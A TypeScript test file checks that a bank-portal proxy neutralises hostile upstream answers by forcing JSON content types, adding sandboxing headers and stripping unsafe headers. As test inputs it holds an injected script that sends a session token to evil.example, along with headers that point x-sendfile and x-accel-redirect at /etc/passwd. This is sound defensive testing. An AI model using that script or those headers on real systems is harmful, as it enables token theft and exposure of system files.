import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { type ProxiedBank, startBank, startPlatform } from '#tests/service/support/proxied-bank.ts';

let answer: (request: IncomingMessage, response: ServerResponse) => unknown;
let bank: Awaited<ReturnType<typeof startBank>>;
let platform: ProxiedBank;
const calls = mkdtempSync(join(tmpdir(), 'calls-'));
const RECEIPT = {
  operationId: 'readReceipt',
  method: 'GET',
  path: '/justificantes/{id}',
  caller: 'session',
  params: { type: 'object', properties: { id: { type: 'string' } } },
  answerTypes: ['application/pdf'],
};

beforeAll(async () => {
  writeFileSync(join(calls, 'receipt.json'), JSON.stringify(RECEIPT));
  bank = await startBank((request, response) => answer(request, response));
  platform = await startPlatform({ url: bank.url, calls });
});
afterAll(async () => {
  await platform.stop();
  await bank.stop();
  rmSync(calls, { recursive: true });
});

const SCRIPT = '<script>fetch("//evil.example/?" + sessionStorage.authtoken)</script>';

/** What a browser would need to run or show something of the answer on the host of the portal. */
function expectHarmless(headers: Headers): void {
  expect(headers.get('x-content-type-options')).toBe('nosniff');
  expect(headers.get('content-security-policy')).toBe("default-src 'none'; frame-ancestors 'none'; sandbox");
  expect(headers.get('cache-control')).toBe('no-store');
}

test.each([
  'text/html',
  'text/html; charset=utf-8',
  'TEXT/HTML',
  'application/xhtml+xml',
  'image/svg+xml',
  'text/xml',
  'text/javascript',
  'application/javascript',
  'text/css',
  'application/pdf',
  'application/json, text/html',
  'multipart/x-mixed-replace; boundary=a',
  'message/rfc822',
  '',
  undefined,
])('R-SIDE-01 an answer of the type %s leaves as JSON, with status and body as they are', async (type) => {
  answer = (_request, response) =>
    response.writeHead(404, type === undefined ? {} : { 'content-type': type }).end(SCRIPT);
  const { status, headers, ...response } = await fetch(`${platform.address}/api/usuarios`).then(async (given) => ({
    status: given.status,
    headers: given.headers,
    text: await given.text(),
  }));
  expect([status, response.text]).toEqual([404, SCRIPT]);
  expect(headers.get('content-type')).toBe('application/json; charset=utf-8');
  expectHarmless(headers);
});

test('R-SIDE-01 a document of the type that the record of its call names is saved, and not opened', async () => {
  const bytes = Buffer.from('%PDF-1.7 …');
  answer = (_request, response) =>
    response
      .writeHead(200, { 'content-type': 'application/pdf;x=1', 'content-disposition': 'inline; filename=x.html' })
      .end(bytes);
  const document = await fetch(`${platform.address}/api/justificantes/7`);
  expect(document.headers.get('content-type')).toBe('application/pdf');
  expect(document.headers.get('content-disposition')).toBe('attachment');
  expectHarmless(document.headers);
  // As the portal takes it: a file made of its bytes.
  const blob = await document.blob();
  expect(Buffer.from(await blob.arrayBuffer()).equals(bytes)).toBe(true);
  answer = (_request, response) => response.writeHead(200, { 'content-type': 'text/html' }).end(SCRIPT);
  const page = await fetch(`${platform.address}/api/justificantes/7`);
  expect([page.headers.get('content-type'), page.headers.get('content-disposition')]).toEqual([
    'application/json; charset=utf-8',
    null,
  ]);
});

test('R-SIDE-01 of the headers of an answer only those of a list pass', async () => {
  const own = {
    'x-accel-redirect': '/etc/passwd',
    'x-accel-buffering': 'no',
    'x-accel-expires': '3600',
    'surrogate-control': 'max-age=3600',
    'cdn-cache-control': 'max-age=3600',
    'cloudflare-cdn-cache-control': 'max-age=3600',
    'x-sendfile': '/etc/passwd',
    'x-reproxy-url': 'http://10.0.0.1/',
    'set-cookie': 'a=1',
    link: '</evil.js>; rel=preload',
    refresh: '0; url=https://evil.example/',
    vary: '*',
    expires: 'Fri, 01 Jan 2100 00:00:00 GMT',
    age: '1',
    via: '1.1 internal-host',
    server: 'Apache-Coyote/1.1',
    'x-powered-by': 'JSP/2.3',
    'content-location': '/other',
    'content-security-policy': 'script-src *',
    'content-encoding': 'aes128gcm',
  };
  const passed = {
    etag: '"7"',
    'content-language': 'es',
    date: 'Fri, 01 Jan 2027 00:00:00 GMT',
    'retry-after': '7',
    deprecation: '@1767225600',
    sunset: 'Fri, 01 Jan 2027 00:00:00 GMT',
    'last-modified': 'Fri, 01 Jan 2027 00:00:00 GMT',
  };
  answer = (_request, response) => response.writeHead(200, { ...own, ...passed }).end('{}');
  const { headers } = await fetch(`${platform.address}/api/usuarios`);
  expect(Object.fromEntries(headers)).toMatchObject(passed);
  for (const [name, value] of Object.entries(own)) expect(headers.get(name), name).not.toBe(value);
  for (const name of ['via', 'server', 'age', 'vary', 'link', 'expires', 'content-encoding'])
    expect(headers.has(name), name).toBe(false);
});
